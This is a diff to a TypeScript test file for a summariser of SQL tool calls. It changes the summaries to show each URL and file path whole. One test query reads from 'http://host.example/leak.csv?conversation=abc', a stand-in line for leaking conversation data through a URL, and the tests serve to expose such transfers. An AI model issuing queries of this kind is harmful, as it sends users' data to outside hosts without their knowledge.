@@ -14,9 +14,10 @@ const sqlCases: Array<{ name: string; sql: string; expected: string }> = [
     expected: 'query: reads quakes; filters, orders and limits.',
   },
   {
-    name: 'an aggregate over a joined parquet glob shortens the path to its last folders',
+    name: 'an aggregate over a joined parquet glob shows the whole URL first',
     sql: "SELECT region, count(*) FROM read_parquet('s3://bucket/warehouse/sales/2024/*.parquet') s JOIN regions r ON s.r = r.id GROUP BY region",
-    expected: 'query: reads sales/2024 and regions; joins, aggregates and groups.',
+    expected:
+      'query: reads s3://bucket/warehouse/sales/2024/*.parquet (a URL outside this page) and regions; joins, aggregates and groups.',
   },
   {
     name: 'a CTE name is not reported as a table, and a comma list is a join',
@@ -42,7 +43,7 @@ const sqlCases: Array<{ name: string; sql: string; expected: string }> = [
   {
     name: 'COPY to a file modifies data and names its destination',
     sql: "COPY (SELECT * FROM quakes) TO 'out/quakes.csv'",
-    expected: 'query: modifies data (COPY TO out/quakes); reads quakes.',
+    expected: 'query: modifies data (COPY TO out/quakes.csv); reads quakes.',
   },
   {
     name: 'DELETE names its target once, as a change rather than a read',
@@ -72,17 +73,17 @@ const sqlCases: Array<{ name: string; sql: string; expected: string }> = [
   {
     name: 'read_csv options such as delim are not taken for file names',
     sql: "SELECT * FROM read_csv('data/stations.csv', delim = ',', header = true)",
-    expected: 'query: reads data/stations.',
+    expected: 'query: reads data/stations.csv (a file).',
   },
   {
     name: 'a list of parquet files names each file',
     sql: "SELECT * FROM read_parquet(['a/x.parquet', 'b/y.parquet'])",
-    expected: 'query: reads a/x and b/y.',
+    expected: 'query: reads a/x.parquet (a file) and b/y.parquet (a file).',
   },
   {
-    name: 'a file named directly in FROM is read, without its host',
+    name: 'a URL named directly in FROM is read, shown whole',
     sql: "SELECT * FROM 'https://example.com/data/quakes.parquet'",
-    expected: 'query: reads data/quakes.',
+    expected: 'query: reads https://example.com/data/quakes.parquet (a URL outside this page).',
   },
   {
     name: 'a recursive CTE reads no table',
@@ -127,7 +128,8 @@ const sqlCases: Array<{ name: string; sql: string; expected: string }> = [
   {
     name: 'CREATE TABLE AS names the new table and the file it reads',
     sql: "CREATE OR REPLACE TABLE sales AS SELECT * FROM read_csv_auto('s3://b/raw/sales.csv')",
-    expected: 'query: modifies data (CREATE OR REPLACE TABLE sales); reads raw/sales.',
+    expected:
+      'query: modifies data (CREATE OR REPLACE TABLE sales); reads s3://b/raw/sales.csv (a URL outside this page).',
   },
   {
     name: 'UPDATE ... FROM reads its source',
@@ -201,9 +203,10 @@ const sqlCases: Array<{ name: string; sql: string; expected: string }> = [
       'query: 3 statements; modifies data (ALTER TABLE quakes, TRUNCATE quakes, DETACH pg).',
   },
   {
-    name: 'hive partition folders and the bucket are dropped from file paths',
+    name: 'hive partition folders and the bucket stay in file paths',
     sql: "SELECT avg(price) FROM read_parquet('s3://lake/trips/year=2024/month=01/*.parquet') HAVING avg(price) > 3",
-    expected: 'query: reads trips; filters and aggregates.',
+    expected:
+      'query: reads s3://lake/trips/year=2024/month=01/*.parquet (a URL outside this page); filters and aggregates.',
   },
   {
     name: 'an empty query says so',
@@ -248,6 +251,38 @@ describe('describeToolCalls for SQL', () => {
     const tables = Array.from({ length: 10 }, (_, index) => `t${index}`);
     expect(describeToolCalls([sqlCall(`SELECT * FROM ${tables.join(', ')}`)])).toBe(
       'query: reads t0, t1, t2, t3, t4, t5, t6 and 3 more; joins.',
+    );
+  });
+});
+
+describe('describeToolCalls shows every URL and file a query reads, whole', () => {
+  it('names the host, the path and the query string of a URL', () => {
+    const sql = "SELECT * FROM read_csv('http://host.example/leak.csv?conversation=abc')";
+    expect(describeToolCalls([sqlCall(sql, 'query', 'sql_query')])).toBe(
+      'query: reads http://host.example/leak.csv?conversation=abc (a URL outside this page).',
+    );
+  });
+
+  it('never folds a URL into "and N more", however many tables come before it', () => {
+    const tables = Array.from({ length: 10 }, (_, index) => `t${index}`).join(', ');
+    const described = describeToolCalls([
+      sqlCall(`SELECT * FROM ${tables}, 'https://x.example/a.csv?id=7'`),
+    ]);
+    expect(described).toMatch(/^query: reads https:\/\/x\.example\/a\.csv\?id=7 \(a URL/);
+    expect(described).toContain('and 4 more');
+  });
+
+  it('does not cut a long URL at the end of the line', () => {
+    const url = `https://x.example/${'a'.repeat(500)}.csv?id=tail`;
+    const described = describeToolCalls([sqlCall(`SELECT * FROM read_csv('${url}')`)]);
+    expect(described).toContain(url);
+    expect(described).not.toContain('…');
+  });
+
+  it('finds URLs hidden in SQL text given to query()', () => {
+    const sql = "SELECT * FROM query('SELECT * FROM read_csv(''http://h.example/x.csv?k=1'')')";
+    expect(describeToolCalls([sqlCall(sql)])).toBe(
+      'query: reads http://h.example/x.csv?k=1 (a URL outside this page) and query().',
     );
   });
 });
